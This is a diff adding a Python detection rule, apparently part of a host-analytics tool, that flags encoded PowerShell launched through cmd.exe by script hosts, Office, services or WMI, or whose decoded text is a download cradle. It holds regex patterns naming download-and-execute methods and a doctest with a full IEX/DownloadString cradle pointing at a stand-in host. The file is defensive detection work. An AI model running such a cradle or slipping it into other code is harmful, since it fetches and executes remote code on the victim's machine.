@@ -1,0 +1,127 @@
+"""The ``cmd_stager`` host-finding rule: an encoded PowerShell started through ``cmd.exe``.
+
+``script_stager`` (:mod:`analytics.host_finding_rules`) reads the parent of an encoded PowerShell: a
+script host or Office.  A lure that goes through ``cmd /c powershell -enc ...`` has ``cmd.exe`` for
+parent and passed it.  This rule reads one hop further, in the host's own process creations (Sysmon 1,
+4688: the ``cmd.exe`` creation by its GUID, else by pid, names *its* parent):
+
+* the ``cmd.exe`` was started by a script host, Office, ``services.exe`` (a service whose command is the
+  stager, psexec's shape) or WMI (``WmiPrvSE.exe``, a remote ``Win32_Process.Create``); or
+* the decoded command downloads code and runs it or names where from (a download cradle), whoever
+  started ``cmd.exe``.
+
+Not matched, on purpose: ``cmd /c powershell -enc`` from an installer, an agent or a user's shell whose
+decoded text downloads nothing.  Installers and management agents do pass encoded commands through
+``cmd`` (to survive their own quoting); what they run is configuration, not a download.  The real
+corpus's Sigma sample (``cmd /c powershell -e`` running ``Invoke-WmiMethod ... notepad.exe``, its cmd's
+parent not logged) is such a near miss.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Mapping
+
+from analytics.host_finding_rules import CMD_STAGER, ENCODED_SWITCH, STAGER_PARENTS
+from analytics.host_findings import Hit
+
+__all__ = ["CHAIN_STARTERS", "DOWNLOAD_CRADLE", "chain_hits", "is_download_cradle"]
+
+CHAIN_STARTERS = STAGER_PARENTS | {"services.exe", "wmiprvse.exe"}
+"""Who may start the ``cmd.exe`` for the chain to be a finding: script hosts, Office, the service
+manager and WMI's provider host.  Explorer (a user at a prompt) and installers are not among them."""
+
+_DOWNLOAD = re.compile(r"downloadstring|downloadfile|downloaddata|openread\b|invoke-webrequest|\biwr\b"
+                       r"|invoke-restmethod|\birm\b|start-bitstransfer|net\.webclient|net\.http\.httpclient"
+                       r"|msxml2\.xmlhttp|winhttp\.winhttprequest", re.I)
+_RUN_OR_SOURCE = re.compile(r"\biex\b|invoke-expression|scriptblock\]::create|\b(https?|ftp)://", re.I)
+DOWNLOAD_CRADLE = (_DOWNLOAD, _RUN_OR_SOURCE)
+"""A download call, and code run from it (``IEX``, ``[scriptblock]::Create``) or the URL it fetches."""
+
+_POWERSHELL = frozenset({"powershell.exe", "pwsh.exe"})
+PROCESS_CREATES = ("sysmon:process_create", "winsec:process_create")
+
+
+def is_download_cradle(decoded: str) -> bool:
+    """Whether decoded PowerShell text downloads and runs code, or downloads from a URL it names.
+
+    >>> is_download_cradle("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")
+    True
+    >>> is_download_cradle("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe")
+    False
+    >>> is_download_cradle("Get-Content C:\\\\logs\\\\download.txt | iex")
+    False
+    """
+    return all(pattern.search(decoded) for pattern in DOWNLOAD_CRADLE)
+
+
+def chain_hits(host: str, events: Iterable[tuple[str, str, float, Mapping[str, object]]]) -> list[Hit]:
+    """The ``cmd_stager`` hits among one host's events ``(event id, kind, ts, fields)``.
+
+    A ``cmd.exe`` is matched on its own creation too (``cmd /c powershell -enc`` started by a script
+    host), so a host whose PowerShell's creation was not logged still shows; one act logged as both
+    is one hit by the copies rule of :mod:`analytics.host_findings` only when its subject is the same,
+    so the child PowerShell's hit is preferred and the ``cmd.exe``'s kept when no child was seen.
+    """
+    creates = [(e, k, t, f) for e, k, t, f in events if k in PROCESS_CREATES]
+    starter_by_guid: dict[str, str] = {}
+    starter_by_pid: dict[str, str] = {}
+    for _, _, _, fields in creates:
+        if _name(fields.get("process.executable")) == "cmd.exe":
+            parent = _name(fields.get("process.parent.executable"))
+            if fields.get("process.guid"):
+                starter_by_guid[str(fields["process.guid"]).lower()] = parent
+            if fields.get("process.pid") is not None:
+                starter_by_pid[str(fields["process.pid"])] = parent
+    hits: list[Hit] = []
+    children_of: set[str] = set()
+    for event_id, _, ts, fields in creates:
+        if _name(fields.get("process.executable")) not in _POWERSHELL or _name(fields.get("process.parent.executable")) != "cmd.exe":
+            continue
+        guid = str(fields.get("process.parent.guid") or "").lower()
+        starter = starter_by_guid.get(guid) if guid else None
+        if starter is None:
+            starter = starter_by_pid.get(str(fields.get("process.parent.pid")))
+        hit = _hit(host, event_id, ts, fields, starter)
+        if hit is not None:
+            hits.append(hit)
+            children_of.add(guid or str(fields.get("process.parent.pid")))
+    for event_id, _, ts, fields in creates:
+        if _name(fields.get("process.executable")) != "cmd.exe":
+            continue
+        if str(fields.get("process.guid") or "").lower() in children_of or str(fields.get("process.pid")) in children_of:
+            continue
+        command = _text(fields.get("process.command_line"))
+        if re.search(r"\b(powershell|pwsh)(\.exe)?\b", command, re.I):
+            hit = _hit(host, event_id, ts, fields, _name(fields.get("process.parent.executable")), via_cmd=True)
+            if hit is not None:
+                hits.append(hit)
+    return hits
+
+
+def _hit(host: str, event_id: str, ts: float, fields: Mapping[str, object], starter: str | None,
+         *, via_cmd: bool = False) -> Hit | None:
+    command = _text(fields.get("process.command_line"))
+    if not command or not ENCODED_SWITCH.search(command):
+        return None
+    decoded = _text(fields.get("process.command_line_decoded"))
+    image = _text(fields.get("process.executable"))
+    who = "cmd.exe" if via_cmd else "PowerShell with an encoded command (-enc) through cmd.exe"
+    if starter in CHAIN_STARTERS:
+        detail = f"{who} started by {starter}" if not via_cmd else f"cmd.exe running an encoded PowerShell, started by {starter}"
+    elif decoded and is_download_cradle(decoded):
+        detail = (f"{'cmd.exe running an encoded PowerShell' if via_cmd else who} whose decoded command downloads "
+                  "code (a download cradle)")
+    else:
+        return None
+    return Hit(host, CMD_STAGER, ts, event_id, image, command,
+               f"{image.lower()}|{' '.join(command.lower().split())}", detail,
+               _text(fields.get("process.parent.executable")))
+
+
+def _text(value: object) -> str:
+    return "" if value is None else str(value).strip()
+
+
+def _name(path: object) -> str:
+    return _text(path).strip('"').replace("/", "\\").rpartition("\\")[2].lower()
